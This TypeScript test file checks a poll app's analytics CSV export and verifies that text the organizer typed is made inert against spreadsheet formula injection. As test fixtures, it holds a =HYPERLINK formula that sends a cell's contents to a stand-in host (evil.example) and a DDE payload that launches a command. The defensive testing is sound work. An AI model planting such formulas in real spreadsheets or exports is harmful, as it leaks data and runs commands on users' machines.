import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { answersFor, call, callerWith, lunchPoll, type Caller } from '../support/api-client.ts';
import { createTestApp, type TestApp } from '../support/app.ts';
import { castFromClient, USER_AGENTS } from '../support/client-ballots.ts';

/**
 * exportAnalyticsCsv through HTTP: the figures of getAnalytics as one table a spreadsheet opens
 * as it is, with every text cell the organizer typed made inert.
 */
let t: TestApp;
let organizer: Caller;
let clock: Date;

const UA = USER_AGENTS;

// What a spreadsheet would run: the title and every question start with a formula character.
const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Lunch")';
const HOSTILE_QUESTIONS = ['+1 Where?', '-1 Which days?', '@x Rank the teams', "=cmd|'/c calc'!A0"];

beforeAll(async () => {
  t = await createTestApp();
  organizer = await callerWith(t, 'organizer');
  // castAt, and so the buckets, come from this clock.
  t.services.commands.now = () => clock;
});
afterAll(async () => t?.close());

const at = (iso: string) => {
  clock = new Date(iso);
};

async function hostilePoll() {
  const base = lunchPoll();
  const payload = { ...base, title: HOSTILE_TITLE, questions: base.questions.map((q, i) => ({ ...q, text: HOSTILE_QUESTIONS[i]! })) };
  const created = await call(t.app, { method: 'POST', url: '/api/polls', caller: organizer, payload });
  expect(created.status, JSON.stringify(created.body)).toBe(201);
  expect((await call(t.app, { method: 'POST', url: `/api/polls/${created.body.pollId}/open`, caller: organizer })).status).toBe(200);
  return (await call(t.app, { method: 'GET', url: `/api/polls/${created.body.pollId}`, caller: organizer })).body;
}

const vote = (poll: any, userAgent: string, ip: string, answers?: ReturnType<typeof answersFor>, startedAt?: string) => castFromClient(t, poll, userAgent, ip, answers, startedAt);

const exportCsv = (pollId: string, caller?: Caller, query = '') =>
  t.app.inject({ method: 'GET', url: `/api/polls/${pollId}/analytics.csv${query}`, headers: caller?.headers ?? {} });

const rowsOf = (body: string): string[][] => parse(body, { bom: true });

describe('exportAnalyticsCsv', () => {
  let poll: any;

  beforeAll(async () => {
    at('2030-03-01T09:00:00.000Z');
    poll = await hostilePoll();
    at('2030-03-01T09:00:20.000Z');
    await vote(poll, UA.desktop, '17.0.0.1', answersFor(poll), '2030-03-01T09:00:07.100Z'); // US
    at('2030-03-01T09:00:50.000Z');
    await vote(poll, UA.mobile, '131.111.8.46', answersFor(poll).slice(0, 2), '2030-03-01T09:00:10.000Z'); // GB
    at('2030-03-01T10:30:00.000Z');
    await vote(poll, UA.bot, '10.0.0.5'); // private
  });

  it('sends one table: summary, time series, devices, countries and per-question drop-off, every formula made text', async () => {
    const response = await exportCsv(poll.pollId, organizer);
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="analytics-[a-z0-9-]+-minute\.csv"$/);
    expect(response.headers['cache-control']).toBe('no-store');
    expect(response.body.startsWith('\uFEFFsection,key,label,value,shown,rate\r\n')).toBe(true);
    expect(response.body.replaceAll('\r\n', '')).not.toContain('\n');

    const { source, builtAt } = t.services.countries.info;
    const [q1, q2, q3, q4] = poll.questions.map((q: any) => q.questionId);
    expect(rowsOf(response.body)).toEqual([
      ['section', 'key', 'label', 'value', 'shown', 'rate'],
      ['summary', 'pollId', poll.pollId, '', '', ''],
      ['summary', 'title', `'${HOSTILE_TITLE}`, '', '', ''],
      ['summary', 'bucket', 'minute', '', '', ''],
      ['summary', 'totalBallots', '', '3', '', ''],
      ['summary', 'uniqueVoters', '', '3', '', ''],
      // (4 + 2 + 4) answered of 3 × 4 questions
      ['summary', 'completionRate', '', '0.8333', '', ''],
      ['summary', 'avgResponseSeconds', '', '26', '', ''],
      ['summary', 'medianResponseSeconds', '', '26', '', ''],
      ['summary', 'p90ResponseSeconds', '', '37.2', '', ''],
      ['summary', 'timedBallots', '', '2', '', ''],
      ['summary', 'countryDataSource', source.startsWith('@') ? `'${source}` : source, '', '', ''],
      ['summary', 'countryDataBuiltAt', builtAt, '', '', ''],
      ['timeSeries', '2030-03-01T09:00:00.000Z', '', '2', '', ''],
      ['timeSeries', '2030-03-01T10:30:00.000Z', '', '1', '', ''],
      ['device', 'bot', '', '1', '', ''],
      ['device', 'desktop', '', '1', '', ''],
      ['device', 'mobile', '', '1', '', ''],
      ['country', 'GB', '', '1', '', ''],
      ['country', 'US', '', '1', '', ''],
      ['country', 'private', '', '1', '', ''],
      ['question', q1, "'+1 Where?", '3', '3', '1'],
      ['question', q2, "'-1 Which days?", '3', '3', '1'],
      ['question', q3, "'@x Rank the teams", '2', '3', '0.6667'],
      ['question', q4, `'=cmd|'/c calc'!A0`, '2', '3', '0.6667'],
    ]);
  });

  it('buckets per hour with ?bucket=hour, as getAnalytics does', async () => {
    const response = await exportCsv(poll.pollId, organizer, '?bucket=hour');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-disposition']).toMatch(/-hour\.csv"$/);
    const rows = rowsOf(response.body);
    expect(rows.filter(([section]) => section === 'timeSeries')).toEqual([
      ['timeSeries', '2030-03-01T09:00:00.000Z', '', '2', '', ''],
      ['timeSeries', '2030-03-01T10:00:00.000Z', '', '1', '', ''],
    ]);
    expect(rows).toContainEqual(['summary', 'bucket', 'hour', '', '', '']);
  });

  it('answers errors as getAnalytics does: problem+json 400, 401, 403 and 404', async () => {
    const problem = async (response: Awaited<ReturnType<typeof exportCsv>>) => {
      expect(response.headers['content-type']).toMatch(/^application\/problem\+json/);
      return { status: response.statusCode, body: response.json() };
    };
    expect(await problem(await exportCsv(poll.pollId, organizer, '?bucket=day')))
      .toMatchObject({ status: 400, body: { code: 'request.invalid', field: 'querystring.bucket' } });
    expect(await problem(await exportCsv(poll.pollId))).toMatchObject({ status: 401, body: { code: 'auth.invalid-token' } });
    expect(await problem(await exportCsv(poll.pollId, await callerWith(t, 'organizer')))).toMatchObject({ status: 403, body: { code: 'analytics.forbidden' } });
    expect(await problem(await exportCsv('00000000-0000-4000-8000-000000000000', await callerWith(t, 'admin'))))
      .toMatchObject({ status: 404, body: { code: 'poll.not-found' } });
    for (const role of ['admin', 'analyst'] as const) expect((await exportCsv(poll.pollId, await callerWith(t, role))).statusCode).toBe(200);
  });

  it('lists every question of a poll without ballots, none shown and no rate', async () => {
    const quiet = await hostilePoll();
    const rows = rowsOf((await exportCsv(quiet.pollId, organizer)).body);
    expect(rows.filter(([section]) => section !== 'summary' && section !== 'section'))
      .toEqual(quiet.questions.map((q: any, i: number) => ['question', q.questionId, `'${HOSTILE_QUESTIONS[i]}`, '0', '0', '']));
    expect(rows).toContainEqual(['summary', 'completionRate', '', '', '', '']);
  });
});
